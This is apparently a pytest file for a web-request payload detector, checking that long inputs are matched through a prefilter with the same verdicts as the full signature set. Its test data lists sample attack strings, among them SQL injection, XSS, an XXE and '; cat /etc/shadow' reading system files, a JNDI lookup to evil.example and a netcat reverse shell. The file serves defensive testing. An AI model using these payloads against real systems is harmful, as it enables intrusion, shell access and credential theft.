"""A long pass within a request's share of the whole-table set goes through the prefilter.

The whole-table set's automaton is the product of every signature: on a query of many different attack
strings it builds a new state at nearly every byte (3,000 characters of them cost 19-24 ms a request, the
same text again 2-3 ms).  A pass longer than :data:`.matching._SET_PASS_CHARS` is matched through the
prefilter instead, which finds the same patterns.  Counted in work (which path each pass takes), never in
time; the verdict, hits in full, excerpts and ``skipped`` are compared with the set's reading.
"""
from __future__ import annotations

import json

import pytest

from smartlayer.detectors.payload import matching, scan_parts, scan_request
from tests.helpers import review_request as _request
from tests.test_payload_plan import _empty, _full
from tests.test_payload_prefix import engine_calls  # noqa: F401 - the fixture: each pass's length and path

#: Different attack strings, a query parameter each (families the table covers), with plain values between.
ATTACKS = [
    "1' AND 8705=9360 AND 'rbaE'='rbaE", "test ORDER BY 3771#", "<svg/onload=alert(document.domain)>",
    "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "; cat /etc/shadow", "<!--#exec cmd=\"ls /\"-->",
    "php://filter/convert.base64-encode/resource=index.php", "{{7*7}}[[${7*7}]]", "') OR ('1'='1",
    "<iframe src=javascript:alert(1)>", "| nc -e /bin/sh 10.0.0.1 4444", "java.lang.Runtime.getRuntime().exec('id')",
    "UNION ALL SELECT NULL,NULL,concat(0x7171,user())--", "%0d%0aSet-Cookie:%20session=abc",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
]


def _query(size: int) -> dict[str, str]:
    query, total, number = {}, 0, 0
    while total < size:
        value = f"{ATTACKS[number % len(ATTACKS)]} {number}" if number % 3 else f"plain words {number}"
        query[f"p{number}"] = value
        total += len(value) + 8
        number += 1
    return query


def test_a_long_pass_within_the_sets_share_goes_through_the_prefilter(monkeypatch, engine_calls):  # noqa: F811
    _empty(monkeypatch)
    seen = engine_calls
    result = scan_request(_request(_query(2200)))
    assert result.score >= 3
    whole_table = [size for size, filtered in seen if not filtered]
    assert whole_table, "the short texts still go through the whole-table set"
    assert max(whole_table) <= matching._SET_PASS_CHARS
    assert any(filtered and size > matching._SET_PASS_CHARS for size, filtered in seen)


def test_the_typical_request_stays_on_the_set(monkeypatch, engine_calls):  # noqa: F811
    """Guard: five query values and a 1 KiB form are matched through the set, as before."""
    _empty(monkeypatch)
    seen = engine_calls
    form = {"name": "Jane O'Reilly", "comment": "fine shoes, " * 80, "next": "/account/orders?tab=2"}
    scan_request(_request({"q": "red shoes", "page": "2", "sort": "price", "size": "9", "c": "blue"}, form))
    assert seen and not any(filtered for _, filtered in seen)


@pytest.mark.parametrize("size", [1400, 1700, 2200, 2900])
def test_the_prefilters_reading_is_the_sets(monkeypatch, size):
    """Guard: the same verdict, hits in full, excerpt, truncation and ``skipped`` as through the set."""
    _empty(monkeypatch)
    now = _full(scan_request(_request(_query(size))))
    _empty(monkeypatch)
    monkeypatch.setattr(matching, "_SET_PASS_CHARS", 1 << 30)
    before = _full(scan_request(_request(_query(size))))
    assert now == before


def _json_rows(size: int) -> bytes:
    """A JSON list of attack strings and plain rows: a body of many fields, normalised together and matched
    as one text (``joined.py``) that, once normalised, is shorter than the set's share."""
    return json.dumps(list(_query(size).values())).encode()


def test_a_bodys_fields_matched_as_one_text_go_through_the_prefilter(monkeypatch, engine_calls):  # noqa: F811
    """The fields of a JSON body joined into one text of 1.5-3 KiB are not one pass of the whole-table set
    (11-14 ms on diverse attacks), whether it is matched in the flush or again on its own."""
    _empty(monkeypatch)
    seen = engine_calls
    result = scan_parts(body=_json_rows(2600), content_type="application/json")
    assert result.score >= 3
    assert any(filtered and size > matching._SET_PASS_CHARS for size, filtered in seen)
    assert not [size for size, filtered in seen if not filtered and size > matching._SET_PASS_CHARS]


@pytest.mark.parametrize("size", [1700, 2600, 3100])
def test_a_json_bodys_prefilter_reading_is_the_sets(monkeypatch, size):
    """Guard: the same verdict, hits in full, excerpt, truncation and ``skipped`` as through the set."""
    _empty(monkeypatch)
    now = _full(scan_parts(body=_json_rows(size), content_type="application/json"))
    _empty(monkeypatch)
    monkeypatch.setattr(matching, "_SET_PASS_CHARS", 1 << 30)
    before = _full(scan_parts(body=_json_rows(size), content_type="application/json"))
    assert now == before
